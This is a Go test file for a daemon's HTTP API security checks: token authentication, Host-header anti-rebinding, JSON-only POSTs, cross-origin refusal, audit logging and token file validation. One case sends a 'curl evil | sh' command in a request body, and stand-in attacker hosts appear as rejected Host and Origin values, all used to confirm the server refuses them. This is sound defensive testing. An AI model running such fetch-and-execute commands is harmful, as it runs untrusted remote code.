package apiserver

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/gracevisor/gracevisor/cmd/internal/api"
	"github.com/gracevisor/gracevisor/config"
	"github.com/gracevisor/gracevisor/internal/testutil"
)

const testToken = "s3cret-token-0123456789abcdef"

// securedAPI is a routing API behind a loopback TCP bind with a token; its
// log is returned for the audit checks.
func securedAPI(t *testing.T) (http.Handler, *bytes.Buffer) {
	t.Helper()
	var logBuf bytes.Buffer
	stopped := make(chan struct{})
	close(stopped)
	a := routingAPI(stopped, func() {})
	a.Log = slog.New(slog.NewTextHandler(&logBuf, nil))
	a.Security = &Security{tokenHash: sha256.Sum256([]byte(testToken)), hasToken: true, loopbackTCP: true, rpcHost: "localhost"}
	return a.Handler(), &logBuf
}

// req builds a request: host, optional token, and for POST a body with a
// content type.
type req struct {
	method, target, host, token, ctype, body, origin string
}

func (r req) send(h http.Handler) *httptest.ResponseRecorder {
	hr := httptest.NewRequest(r.method, r.target, strings.NewReader(r.body))
	hr.Host = r.host
	if r.token != "" {
		hr.Header.Set("Authorization", "Bearer "+r.token)
	}
	if r.ctype != "" {
		hr.Header.Set("Content-Type", r.ctype)
	}
	if r.origin != "" {
		hr.Header.Set("Origin", r.origin)
	}
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, hr)
	return rec
}

// TestRefusals covers every refusal of the guard and of mutating, and that
// the same requests pass with what was missing.
func TestRefusals(t *testing.T) {
	h, _ := securedAPI(t)
	const host = "127.0.0.1:9001"
	cases := []struct {
		name string
		r    req
		code int
		msg  string
	}{
		// token
		{"no token", req{method: "GET", target: "/api/v1/version", host: host}, 401, "missing token"},
		{"wrong token", req{method: "GET", target: "/api/v1/version", host: host, token: "nope-nope-nope-nope"}, 401, "wrong token"},
		{"token prefix", req{method: "GET", target: "/api/v1/version", host: host, token: testToken[:20]}, 401, "wrong token"},
		{"basic auth", req{method: "GET", target: "/api/v1/status", host: host}, 401, "missing token"},
		{"right token", req{method: "GET", target: "/api/v1/version", host: host, token: testToken}, 200, ""},
		{"page needs no token", req{method: "GET", target: "/", host: host}, 200, ""},
		{"metrics need the token", req{method: "GET", target: "/metrics", host: host}, 401, "missing token"},
		{"unknown paths need the token", req{method: "GET", target: "/debug/pprof/", host: host}, 401, "missing token"},
		{"script needs no token", req{method: "GET", target: "/static/app.js", host: host}, 200, ""},
		// Host header (DNS rebinding)
		{"foreign Host", req{method: "GET", target: "/api/v1/version", host: "evil.example:9001", token: testToken}, 403, "not a loopback name"},
		{"foreign Host, page", req{method: "GET", target: "/", host: "rebind.attacker.test"}, 403, "not a loopback name"},
		{"IP Host not loopback", req{method: "GET", target: "/", host: "192.0.2.7:9001"}, 403, "not a loopback name"},
		{"localhost", req{method: "GET", target: "/api/v1/version", host: "localhost:9001", token: testToken}, 200, ""},
		{"LOCALHOST", req{method: "GET", target: "/api/v1/version", host: "LOCALHOST", token: testToken}, 200, ""},
		{"::1", req{method: "GET", target: "/api/v1/version", host: "[::1]:9001", token: testToken}, 200, ""},
		{"127.0.0.2", req{method: "GET", target: "/api/v1/version", host: "127.0.0.2:9001", token: testToken}, 200, ""},
		// state changes: POST + JSON only
		{"GET on mutating", req{method: "GET", target: "/api/v1/apps/demo/reload", host: host, token: testToken}, 405, "method not allowed"},
		{"form POST", req{method: "POST", target: "/api/v1/shutdown", host: host, token: testToken,
			ctype: "application/x-www-form-urlencoded", body: "a=1"}, 415, "application/json"},
		{"multipart POST", req{method: "POST", target: "/api/v1/shutdown", host: host, token: testToken,
			ctype: "multipart/form-data; boundary=x", body: "--x--"}, 415, "application/json"},
		{"text/plain POST", req{method: "POST", target: "/api/v1/shutdown", host: host, token: testToken,
			ctype: "text/plain", body: "{}"}, 415, "application/json"},
		{"no content type", req{method: "POST", target: "/api/v1/update", host: host, token: testToken, body: "{}"}, 415, "application/json"},
		{"empty JSON body", req{method: "POST", target: "/api/v1/shutdown", host: host, token: testToken, ctype: "application/json"}, 400, "JSON object"},
		{"null body", req{method: "POST", target: "/api/v1/shutdown", host: host, token: testToken, ctype: "application/json", body: "null"}, 400, "JSON object"},
		{"a command in the body", req{method: "POST", target: "/api/v1/shutdown", host: host, token: testToken,
			ctype: "application/json", body: `{"command": "curl evil | sh"}`}, 400, "takes no parameters"},
		{"trailing data", req{method: "POST", target: "/api/v1/shutdown", host: host, token: testToken,
			ctype: "application/json", body: `{} {}`}, 400, "trailing"},
		{"huge body", req{method: "POST", target: "/api/v1/shutdown", host: host, token: testToken,
			ctype: "application/json", body: "{" + strings.Repeat(" ", maxBody) + "}"}, 413, "too large"},
		{"cross-origin POST", req{method: "POST", target: "/api/v1/shutdown", host: host, token: testToken,
			ctype: "application/json", body: "{}", origin: "http://evil.example"}, 403, "cross-origin"},
		{"POST without token", req{method: "POST", target: "/api/v1/shutdown", host: host,
			ctype: "application/json", body: "{}"}, 401, "missing token"},
		{"same-origin POST", req{method: "POST", target: "/api/v1/shutdown", host: host, token: testToken,
			ctype: "application/json; charset=utf-8", body: " {} ", origin: "http://" + host}, 200, ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			rec := tc.r.send(h)
			if rec.Code != tc.code || !strings.Contains(rec.Body.String(), tc.msg) {
				t.Fatalf("%d %q, want %d containing %q", rec.Code, rec.Body, tc.code, tc.msg)
			}
			if tc.code == 401 && rec.Header().Get("WWW-Authenticate") == "" {
				t.Error("401 without WWW-Authenticate")
			}
			if rec.Header().Get("Access-Control-Allow-Origin") != "" {
				t.Error("CORS header set")
			}
		})
	}
}

// A unix socket peer is let in without a token or Host check: the socket's
// mode and owner decided that.
func TestUnixPeerNeedsNoToken(t *testing.T) {
	h, _ := securedAPI(t)
	hr := httptest.NewRequest("GET", "/api/v1/version", nil)
	hr.Host = "whatever"
	hr = hr.WithContext(context.WithValue(hr.Context(), peerKey{}, peer{unix: true, who: "uid=0 pid=1", source: "uid=0"}))
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, hr)
	if rec.Code != 200 {
		t.Fatalf("unix peer: %d %q", rec.Code, rec.Body)
	}
}

// Every state-changing request is logged with who made it; refusals too.
func TestAuditLog(t *testing.T) {
	h, logBuf := securedAPI(t)
	req{method: "POST", target: "/api/v1/shutdown", host: "127.0.0.1:9001", token: testToken, ctype: "application/json", body: "{}"}.send(h)
	req{method: "POST", target: "/api/v1/shutdown", host: "127.0.0.1:9001", token: "bad-bad-bad-bad-bad"}.send(h)
	out := logBuf.String()
	for _, want := range []string{
		`msg="api request" method=POST path=/api/v1/shutdown from=192.0.2.1:1234`,
		`msg="api request done" method=POST path=/api/v1/shutdown from=192.0.2.1:1234 status=200`,
		`msg="api request refused" method=POST path=/api/v1/shutdown from=192.0.2.1:1234 status=401 reason="wrong token"`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("log lacks %q:\n%s", want, out)
		}
	}
}

func TestIsLoopbackHost(t *testing.T) {
	ctx := context.Background()
	for host, want := range map[string]bool{
		"localhost": true, "LocalHost": true, "127.0.0.1": true, "127.1.2.3": true, "::1": true, "[::1]": true,
		"app.localhost": true,
		"":              false, "0.0.0.0": false, "::": false, "192.0.2.1": false, "10.0.0.1": false,
		"no-such-host.invalid": false,
	} {
		if got := isLoopbackHost(ctx, host); got != want {
			t.Errorf("isLoopbackHost(%q) = %v, want %v", host, got, want)
		}
	}
}

func writeToken(t *testing.T, content string, mode os.FileMode) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "token")
	if err := os.WriteFile(p, []byte(content), mode); err != nil {
		t.Fatal(err)
	}
	return p
}

func TestNewAPISecurity(t *testing.T) {
	ctx := context.Background()
	quiet := slog.New(slog.NewTextHandler(io.Discard, nil))
	good := writeToken(t, testToken+"\n", 0o600)

	_, err := NewSecurity(ctx, config.RPC{Host: "0.0.0.0", Port: 9001}, quiet)
	if !errors.Is(err, ErrExposed) || !strings.Contains(err.Error(), "not a loopback address") || !strings.Contains(err.Error(), "rpc.token_file") {
		t.Errorf("non-loopback without token: %v", err)
	}
	if _, err := NewSecurity(ctx, config.RPC{Host: "", Port: 9001}, quiet); !errors.Is(err, ErrExposed) {
		t.Errorf("every interface without token: %v", err)
	}
	_, err = NewSecurity(ctx, config.RPC{Host: "0.0.0.0", Port: 9001, TokenFile: good}, quiet)
	if !errors.Is(err, ErrExposed) || !strings.Contains(err.Error(), "rpc.tls is not set") {
		t.Errorf("non-loopback with token, without TLS: %v", err)
	}
	files := testutil.SelfSignedTLS(t, t.TempDir())
	withTLS := config.TLS{CertFile: files.Cert, KeyFile: files.Key}
	s, err := NewSecurity(ctx, config.RPC{Host: "0.0.0.0", Port: 9001, TokenFile: good, TLS: withTLS}, quiet)
	if err != nil || !s.hasToken || s.loopbackTCP || !s.TLS() || !s.tokenOK(testToken) || s.tokenOK(testToken+"x") {
		t.Errorf("non-loopback with token and TLS: %+v, %v", s, err)
	}
	if _, err := NewSecurity(ctx, config.RPC{Host: "localhost", Port: 9001, TLS: config.TLS{CertFile: files.CA, KeyFile: files.Key}}, quiet); err == nil ||
		!strings.Contains(err.Error(), "rpc.tls: load") {
		t.Errorf("a certificate that does not match its key: %v", err)
	}
	if s, err := NewSecurity(ctx, config.RPC{Host: "localhost", Port: 9001}, quiet); err != nil || !s.loopbackTCP || s.hasToken {
		t.Errorf("loopback without token: %+v, %v", s, err)
	}
	if _, err := NewSecurity(ctx, config.RPC{Host: "0.0.0.0", Port: 0, Socket: "/run/x.sock"}, quiet); err != nil {
		t.Errorf("TCP off: %v", err)
	}

	for name, content := range map[string]string{"empty": "\n\n", "short": "abc123\n"} {
		p := writeToken(t, content, 0o600)
		if _, err := NewSecurity(ctx, config.RPC{Host: "localhost", Port: 9001, TokenFile: p}, quiet); err == nil || !strings.Contains(err.Error(), p) {
			t.Errorf("%s token: %v", name, err)
		}
	}
	if _, err := NewSecurity(ctx, config.RPC{Host: "localhost", Port: 9001, TokenFile: "/nonexistent/token"}, quiet); err == nil {
		t.Error("missing token file accepted")
	}

	var logBuf bytes.Buffer
	open := writeToken(t, testToken, 0o644)
	if _, err := NewSecurity(ctx, config.RPC{Host: "localhost", Port: 9001, TokenFile: open}, slog.New(slog.NewTextHandler(&logBuf, nil))); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(logBuf.String(), "readable by other users") {
		t.Errorf("no warning for a world-readable token file: %q", logBuf.String())
	}
}

func TestBearer(t *testing.T) {
	for h, want := range map[string]string{"Bearer abc": "abc", "bearer  abc ": "abc", "Basic abc": "", "Bearer": "", "Bearer ": "", "": ""} {
		got, ok := bearer(h)
		if got != want || ok != (want != "") {
			t.Errorf("bearer(%q) = %q, %v", h, got, ok)
		}
	}
}

// A body cut short (the client announced more than it sent, then closed its
// side) is a bad request, not a body too large; the handler never runs.
func TestTruncatedBodyIsBadRequest(t *testing.T) {
	asked := make(chan struct{}, 1)
	srv := httptest.NewServer(routingAPI(nil, func() { asked <- struct{}{} }).Handler())
	t.Cleanup(srv.Close)
	conn, err := net.Dial("tcp", srv.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(10 * time.Second))
	fmt.Fprintf(conn, "POST /api/v1/shutdown HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{")
	if err := conn.(*net.TCPConn).CloseWrite(); err != nil {
		t.Fatal(err)
	}
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != http.StatusBadRequest || !strings.Contains(string(body), "could not read the request body") {
		t.Fatalf("%d %q, want 400 could not read the request body", resp.StatusCode, body)
	}
	if len(asked) != 0 {
		t.Fatal("shutdown ran on a truncated request")
	}
}

// TestHealthNeedsNothing: /healthz answers balancers that send no token and
// no (or any) Host, and says 503 once the daemon is on its way out; the
// same request on another path is still refused.
func TestHealthNeedsNothing(t *testing.T) {
	stopped := make(chan struct{})
	close(stopped)
	a := routingAPI(stopped, func() {})
	a.Security = &Security{tokenHash: sha256.Sum256([]byte(testToken)), hasToken: true, loopbackTCP: true, rpcHost: "localhost"}
	state := api.DaemonServing
	a.Daemon.State = func() api.DaemonState { return state }
	h := a.Handler()
	for _, host := range []string{"", "localhost:9001", "attacker.example"} {
		if rec := (req{method: "GET", target: "/healthz", host: host}).send(h); rec.Code != 200 || rec.Body.String() != "serving\n" {
			t.Errorf("Host %q: %d %q", host, rec.Code, rec.Body)
		}
	}
	if rec := (req{method: "GET", target: "/api/v1/version", host: ""}).send(h); rec.Code == 200 {
		t.Errorf("another path without token or Host answered 200")
	}
	state = api.DaemonDraining
	if rec := (req{method: "GET", target: "/healthz", host: ""}).send(h); rec.Code != 503 || rec.Body.String() != "draining\n" {
		t.Errorf("draining: %d %q", rec.Code, rec.Body)
	}
}
